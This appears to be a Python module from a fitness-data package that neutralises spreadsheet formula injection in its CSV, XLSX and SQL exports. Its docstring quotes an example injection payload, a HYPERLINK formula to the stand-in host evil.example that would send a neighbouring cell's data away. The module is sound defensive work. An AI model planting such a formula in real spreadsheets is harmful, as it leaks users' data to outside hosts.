"""Cells a spreadsheet will not run: the one rule for every CSV and XLSX the package writes.

A team, therapist or client code typed as ``=HYPERLINK("http://evil.example/?d="&A2,"Klikk
her")`` would be a live formula in a leader's spreadsheet, one click from sending the
neighbouring cells away (OWASP, "CSV Injection"). OWASP's rule, applied here to every text
cell: a value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
single quote in front, so a spreadsheet shows it as text; in an XLSX the cell is also written
as a string, never as a formula (openpyxl otherwise turns any string that starts with ``=``
into one). Numbers are not text and stay numbers (a negative number is fine); the same
number stored as *text* (``"-3.5"``) is quoted like any other text.

Round trip. ``fitdata export`` writes the canonical format that ``fitdata import`` reads back,
so the quote must be removable without guessing. It is also put in front of a value that
already starts with quotes followed by one of those characters (``'=x`` is written ``''=x``),
which makes :func:`fitdata.formula_guard.restore` — strip one leading quote when what follows
is such a value — the exact inverse of :func:`fitdata.formula_guard.neutralise` for every text
(a test checks both directions). Both live in :mod:`fitdata.formula_guard`, where the importer
finds the inverse too.

Used by the report's workbook (:mod:`fitdata.outputs.report`), the team review's CSV and Excel
downloads (:mod:`fitdata.outputs.team_review`) and ``fitdata export``
(:mod:`fitdata.outputs.export`, in SQL: :func:`neutralise_sql`).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import pandas as pd

from fitdata.formula_guard import FORMULA_STARTS, QUOTE, neutralise

__all__ = [
    "append_row",
    "inert_worksheet",
    "neutralise_frame",
    "neutralise_sql",
]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name neutralised; numbers kept."""
    out = frame.copy()
    for position in range(frame.shape[1]):
        series = frame.iloc[:, position]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out.isetitem(position, series.map(neutralise, na_action="ignore").astype(series.dtype))
    out.columns = [neutralise(column) for column in frame.columns]
    return out


def neutralise_sql(expression: str) -> str:
    """A SQL expression (DuckDB) with :func:`neutralise` applied to the text ``expression``.

    ``ascii()`` (the first character's code) decides first, so a value that starts with none
    of the characters costs one comparison: on 1 million sessions the export then takes about
    as long as without the rule (``left(ltrim(...))`` on every value doubled it).
    """
    starts = ", ".join(str(ord(c)) for c in FORMULA_STARTS)
    return (
        f"CASE WHEN ascii({expression}) IN ({starts}, {ord(QUOTE)}) "
        f"AND ascii(ltrim({expression}, '{QUOTE * 2}')) IN ({starts}) "
        f"THEN '{QUOTE * 2}' || {expression} ELSE {expression} END"
    )


def append_row(worksheet: Any, values: Iterable[Any]) -> None:
    """Append ``values`` to an openpyxl worksheet, text neutralised and written as strings."""
    worksheet.append([neutralise(value) for value in values])
    inert_worksheet(worksheet, worksheet.iter_rows(min_row=worksheet.max_row))


def inert_worksheet(worksheet: Any, rows: Iterable[Any] | None = None) -> None:
    """Write every text cell of an openpyxl worksheet as a string, never as a formula.

    For a sheet filled from neutralised values (e.g. :func:`neutralise_frame` and
    ``DataFrame.to_excel``): the text already carries its quote; this makes sure no cell is
    stored as a formula whatever its first character.

    Args:
        worksheet: The sheet.
        rows: The rows to check (``worksheet.iter_rows(...)``); None checks the whole sheet.
    """
    for row in worksheet.iter_rows() if rows is None else rows:
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
